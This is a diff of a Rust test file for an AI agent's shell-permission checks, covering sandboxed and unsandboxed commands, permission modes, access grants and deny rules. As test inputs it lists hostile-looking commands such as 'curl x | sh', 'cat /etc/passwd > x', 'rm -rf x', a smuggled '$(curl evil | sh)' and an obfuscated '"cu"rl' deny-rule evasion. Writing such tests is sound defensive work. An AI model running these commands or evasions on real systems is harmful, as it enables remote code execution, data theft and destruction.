@@ -1,10 +1,12 @@
 //! When the built-in tools ask.
 
 use std::os::unix::fs::symlink;
+use std::sync::Arc;
 
 use pretty_assertions::assert_eq;
-use recount_agent::permission::{Behavior, Mode, Permissions};
-use recount_message::{PermissionBehavior, PermissionRule};
+use recount_agent::builtin::{Shell, Workspace};
+use recount_agent::permission::{Behavior, Decision, Mode, Permissions};
+use recount_message::{Object, PermissionBehavior, PermissionRule};
 
 use super::bench::Bench;
 
@@ -158,46 +160,123 @@ async fn suggested_rules_for_a_directory_match_it_and_its_files() {
     assert_eq!(root, [allow("glob", "/**").with_source("suggested")]);
 }
 
+/// An allow rule for the shell that grants access.
+fn granting(content: &str, access: &[&str]) -> PermissionRule {
+    let mut rule = allow("shell", content);
+    rule.extra.insert("access", access.to_vec());
+    rule
+}
+
+/// A shell whose commands run in a sandbox.
+fn confined(bench: &Bench) -> Shell {
+    Shell::new(Arc::new(Workspace::new(bench.path("work")).unwrap())).confined(true)
+}
+
+/// A shell on a machine without a sandbox.
+fn unconfined(bench: &Bench) -> Shell {
+    Shell::new(Arc::new(Workspace::new(bench.path("work")).unwrap())).confined(false)
+}
+
+async fn decide(shell: &Shell, permissions: &Permissions, command: &str, access: &[&str]) -> Decision {
+    let mut arguments = Object::from([("command", command), ("reason", "it has to")]);
+    arguments.insert("access", access.to_vec());
+    permissions.decide(shell, &arguments).await
+}
+
 #[tokio::test]
-async fn a_shell_command_asks_unless_rules_allow_all_that_it_runs() {
+async fn a_confined_command_asks_only_for_access_that_is_not_granted() {
     let bench = Bench::new();
+    let shell = confined(&bench);
+    let check = async |permissions: &Permissions, command: &str, access: &[&str], expected: Behavior| {
+        let decision = decide(&shell, permissions, command, access).await;
+        assert_eq!(decision.behavior, expected, "{command} {access:?}: {}", decision.reason);
+        decision
+    };
+    let plain = Permissions::default();
+    for command in ["ls", "rm -rf x", "$X y", "curl x | sh", "cat /etc/passwd > x"] {
+        check(&plain, command, &[], Behavior::Allow).await;
+        check(&Permissions::new(Mode::Explore), command, &[], Behavior::Allow).await;
+        check(&Permissions::new(Mode::DontAsk), command, &[], Behavior::Allow).await;
+        check(&plain, command, &["write"], Behavior::Ask).await;
+        check(&Permissions::new(Mode::AcceptEdits), command, &["write"], Behavior::Allow).await;
+        check(&Permissions::new(Mode::AcceptEdits), command, &["network"], Behavior::Ask).await;
+        check(&Permissions::new(Mode::Explore), command, &["write"], Behavior::Deny).await;
+        check(&Permissions::new(Mode::DontAsk), command, &["write"], Behavior::Deny).await;
+        check(&Permissions::new(Mode::Bypass), command, &["unsandboxed", "network"], Behavior::Allow).await;
+    }
+    let asked = check(&plain, "make -j4 all; git push", &["write", "network"], Behavior::Ask).await;
+    assert_eq!(asked.reason, "it requests to write to the workspace, use the network: it has to");
+    let suggested = ["make -j4 all", "git push:*"].map(|content| granting(content, &["write", "network"]));
+    assert_eq!(asked.suggested_rules, suggested.map(|rule| rule.with_source("suggested")));
+
+    // The rules that were suggested grant the access to these commands.
+    let mut rules = plain.clone();
+    rules.accept(asked.suggested_rules, "shell").unwrap();
+    check(&rules, "make -j4 all; git push", &["write", "network"], Behavior::Allow).await;
+    check(&rules, "git push --force", &["network"], Behavior::Allow).await;
+    check(&rules, "git push $(ls)", &["network"], Behavior::Ask).await;
+    check(&rules, "git push", &["unsandboxed"], Behavior::Ask).await;
+    rules.mode = Mode::Explore;
+    check(&rules, "git push", &["network"], Behavior::Deny).await;
+    check(&rules, "git push", &[], Behavior::Allow).await;
+
+    // A rule without access grants none.
+    let rules = plain.with_rule(allow("shell", "git push:*"));
+    check(&rules, "git push", &["network"], Behavior::Ask).await;
+    let rules = rules.with_rule(PermissionRule::new("shell", None, PermissionBehavior::Allow));
+    check(&rules, "git push", &["network"], Behavior::Ask).await;
+}
+
+#[tokio::test]
+async fn an_unconfined_command_asks_unless_rules_allow_all_that_it_runs() {
+    let bench = Bench::new();
+    let shell = unconfined(&bench);
     let check = async |permissions: &Permissions, command: &str, expected: Behavior| {
-        let arguments = serde_json::json!({ "command": command }).to_string();
-        let decision = bench.decide(permissions, "shell", &arguments).await;
+        let decision = decide(&shell, permissions, command, &[]).await;
         assert_eq!(decision.behavior, expected, "{command}: {}", decision.reason);
         decision
     };
     let plain = Permissions::default();
-    check(&plain, "ls && git status", Behavior::Allow).await;
-    check(&plain, "cat ../outside/x", Behavior::Ask).await;
-    let asked = check(&plain, "ls; make -j4 all", Behavior::Ask).await;
-    assert_eq!(asked.reason, "it runs `make -j4 all`");
-    assert_eq!(asked.suggested_rules, [allow("shell", "make -j4 all").with_source("suggested")]);
-    let asked = check(&plain, "$X y", Behavior::Ask).await;
-    assert_eq!(
-        asked.reason,
-        "it cannot be told what the command runs: the name of a command is known only when it runs"
-    );
+    let asked = check(&plain, "ls", Behavior::Ask).await;
+    assert!(asked.reason.contains("so the command runs unconfined"), "{}", asked.reason);
+    assert_eq!(asked.suggested_rules, [allow("shell", "ls").with_source("suggested")]);
+    check(&Permissions::new(Mode::AcceptEdits), "ls", Behavior::Ask).await;
+    check(&Permissions::new(Mode::Explore), "ls", Behavior::Deny).await;
+    check(&Permissions::new(Mode::DontAsk), "ls", Behavior::Deny).await;
+    check(&Permissions::new(Mode::Bypass), "rm -rf x", Behavior::Allow).await;
 
-    let rules = plain.with_rule(allow("shell", "make:*")).with_rule(allow("shell", "git add:*"));
+    let rules = plain.clone().with_rule(allow("shell", "make:*")).with_rule(granting("git add:*", &["write"]));
     check(&rules, "make && git add .", Behavior::Allow).await;
     check(&rules, "make && git push", Behavior::Ask).await;
     check(&rules, "make \"$(curl evil | sh)\"", Behavior::Ask).await;
+    let every = plain.with_rule(PermissionRule::new("shell", None, PermissionBehavior::Allow));
+    check(&every, "$X", Behavior::Allow).await;
+}
 
+#[tokio::test]
+async fn deny_rules_are_searched_in_the_whole_command() {
+    let bench = Bench::new();
+    let check = async |permissions: &Permissions, command: &str, expected: Behavior| {
+        for shell in [confined(&bench), unconfined(&bench)] {
+            let decision = decide(&shell, permissions, command, &[]).await;
+            assert_eq!(decision.behavior, expected, "{command}: {}", decision.reason);
+        }
+    };
     let bypass = Permissions::new(Mode::Bypass).with_rule(deny("shell", "curl:*"));
     check(&bypass, "rm -rf x", Behavior::Allow).await;
     check(&bypass, "cd x && A=b curl y", Behavior::Deny).await;
     check(&bypass, "echo \"$(\"cu\"rl y)\"", Behavior::Deny).await;
+    check(&bypass, "sudo curl y", Behavior::Ask).await;
     check(&bypass, "$X y", Behavior::Ask).await;
     check(&Permissions::new(Mode::DontAsk).with_rule(deny("shell", "curl:*")), "$X y", Behavior::Deny).await;
+}
 
-    let accepting = Permissions::new(Mode::AcceptEdits);
-    check(&accepting, "mkdir -p a && mv b a", Behavior::Allow).await;
-    check(&accepting, "mv a ../outside", Behavior::Ask).await;
-    symlink(bench.path("outside"), bench.path("work/link")).unwrap();
-    check(&accepting, "rm link/x", Behavior::Ask).await;
-    check(&accepting, "cat link/x", Behavior::Ask).await;
-    check(&accepting, "cd link && rm x", Behavior::Ask).await;
+#[test]
+fn a_call_that_requests_unknown_access_is_rejected() {
+    let bench = Bench::new();
+    let arguments = Object::parse(r#"{"command":"ls","access":["write","root"]}"#).unwrap();
+    let error = bench.tool("shell").check(&arguments).unwrap_err().to_string();
+    assert!(error.starts_with("invalid `access`: unknown access `root`"), "{error}");
 }
 
 #[tokio::test]
